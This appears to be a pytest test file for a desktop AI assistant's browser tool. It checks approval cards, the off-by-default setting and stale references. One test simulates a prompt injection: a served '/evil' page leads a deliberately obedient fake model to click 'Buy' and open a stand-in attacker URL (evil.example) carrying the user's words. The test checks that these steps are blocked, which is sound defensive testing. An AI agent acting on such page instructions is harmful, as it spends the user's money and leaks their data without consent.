"""The browser in the whole assistant: off until it is switched on, cards with the site, yeses for a
site, a page's instructions that come to nothing, and no process left at the end."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from moltbot_desktop.app.assistant import AssistantOptions, open_assistant
from moltbot_desktop.app.clock import SystemClock
from moltbot_desktop.app.paths import Paths
from moltbot_desktop.config.load import load_config
from moltbot_desktop.core.events import ApprovalRequested, RunEnded, ToolEnded
from moltbot_desktop.core.i18n import Language
from moltbot_desktop.core.json import JsonValue
from moltbot_desktop.core.messages import Role
from moltbot_desktop.core.permissions import Term
from moltbot_desktop.gateway.client import AssistantClient, ClientEvent
from tests.fakes.obedient import ObedientModel, obedient
from tests.fakes.pages import Site, served

pytest.importorskip("playwright.async_api", reason="the extra “browser” is not installed")
PROGRAM = shutil.which("chromium") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(PROGRAM is None, reason="no Chrome or Chromium is installed")
_CHECKOUT = Path(__file__).parents[3]


@dataclass
class Owner:
    """Answers cards with `terms`, in order; then with no."""

    client: AssistantClient
    models: Mapping[str, ObedientModel]
    terms: list[Term] = field(default_factory=list)
    cards: list[ApprovalRequested] = field(default_factory=list)
    results: list[ToolEnded] = field(default_factory=list)
    _over: asyncio.Event = field(default_factory=asyncio.Event)

    def hear(self, event: ClientEvent) -> None:
        if isinstance(event, ApprovalRequested):
            self.cards.append(event)
            allow = bool(self.terms)
            term = self.terms.pop(0) if allow else Term.ONCE
            self.client.answer_approval(event.approval_id, allow=allow, term=term)
        elif isinstance(event, ToolEnded):
            self.results.append(event)
        elif isinstance(event, RunEnded):
            self._over.set()

    async def calls(self, **arguments: JsonValue) -> None:
        """Have the model make this call."""
        await self.says(f"browser {json.dumps(arguments, ensure_ascii=False)}")

    async def says(self, text: str) -> None:
        self._over.clear()
        self.client.send(text)
        await asyncio.wait_for(self._over.wait(), 60)

    def told(self) -> str:
        """The last result, as the model was shown it."""
        messages = self.models["obedient"].requests[-1].messages
        return [one.content for one in messages if one.role is Role.TOOL][-1]

    def ref(self, words: str) -> str:
        """Of the line of the last result that holds `words`."""
        told = self.told()
        lines = [line for line in told.replace("\\n", "\n").splitlines() if words in line]
        return lines[0].rpartition("[ref=")[2].partition("]")[0]


def in_chat(
    home: Path, site: Site, test: Callable[[Owner], Awaitable[None]], **browser: object
) -> None:
    settings = {
        "enabled": True,
        "headless": True,
        "executablePath": PROGRAM,
        "noSandbox": os.geteuid() == 0,
        "ssrfPolicy": {"allowedHostnames": [f"127.0.0.1:{site.port}"]},
        **browser,
    }
    home.mkdir()
    (home / "moltbot.json").write_text(json.dumps({"browser": settings}), encoding="utf-8")

    async def carried_out() -> None:
        paths = Paths(home, home.parent, _CHECKOUT)
        options = AssistantOptions(Language.ENGLISH)
        async with open_assistant(paths, load_config(home), SystemClock(), options) as client:
            owner = Owner(client, models)
            client.subscribe(owner.hear)
            await test(owner)

    with obedient() as models:
        asyncio.run(carried_out())


def test_an_order_is_sent_after_a_card_that_names_button_and_site(tmp_path: Path) -> None:
    async def ordering(owner: Owner) -> None:
        await owner.calls(action="open", url=site.at())
        assert owner.cards == []  # the owner said that address
        owner.terms = [Term.ONCE]
        await owner.calls(
            action="act", kind="type", ref=owner.ref("textbox"), text="Eve", submit=True
        )
        (card,) = owner.cards
        assert card.title == (
            f"type “Eve” into textbox “Name” on 127.0.0.1:{site.port}, and send it"
        )
        assert site.posted == [b"name=Eve&fruit=Apples"]

    with served() as site:
        in_chat(tmp_path / "home", site, ordering)


def test_without_a_yes_nothing_is_clicked(tmp_path: Path) -> None:
    async def refusing(owner: Owner) -> None:
        await owner.calls(action="open", url=site.at("/evil"))
        await owner.calls(action="act", kind="click", ref=owner.ref("Buy"))
        await owner.calls(action="open", url="https://evil.example/?q=my+words")
        assert len(owner.cards) >= 1
        assert not owner.results[-1].ok

    with served() as site:
        in_chat(tmp_path / "home", site, refusing)


def test_a_stale_ref_is_told_at_once_and_costs_no_card(tmp_path: Path) -> None:
    async def late(owner: Owner) -> None:
        await owner.calls(action="act", kind="press", key="Enter")
        assert "no page is open" in owner.told()
        await owner.calls(action="open", url=site.at())
        old = owner.ref("Vanish")
        await owner.calls(action="open", url=site.at("/next"))
        for kind in ({"kind": "click", "ref": old}, {"kind": "fill", "fields": [{"ref": "e0"}]}):
            await owner.calls(action="act", **kind)
            assert "is not on the page any more" in owner.told()
            assert not owner.results[-1].ok
        assert owner.cards == []

    with served() as site:
        in_chat(tmp_path / "home", site, late)


def test_looking_again_asks_nothing_whatever_was_read(tmp_path: Path) -> None:
    async def looking(owner: Owner) -> None:
        await owner.calls(action="open", url=site.at("/evil"))
        await owner.says('list {"path": "."}')  # private as well from here on
        for action in ("snapshot", "screenshot", "tabs", "console", "snapshot"):
            await owner.calls(action=action)
            assert owner.results[-1].ok, action
        assert owner.cards == []
        size = {"width": 801, "height": 600}
        await owner.calls(action="act", kind="resize", request=size)  # that is noticed
        assert len(owner.cards) == 1

    with served() as site:
        in_chat(tmp_path / "home", site, looking)


def test_it_is_off_until_it_is_switched_on(tmp_path: Path) -> None:
    async def off(owner: Owner) -> None:
        await owner.calls(action="open", url=site.at())
        assert not owner.results or not owner.results[-1].ok
        assert site.asked == []

    with served() as site:
        in_chat(tmp_path / "home", site, off, enabled=False)
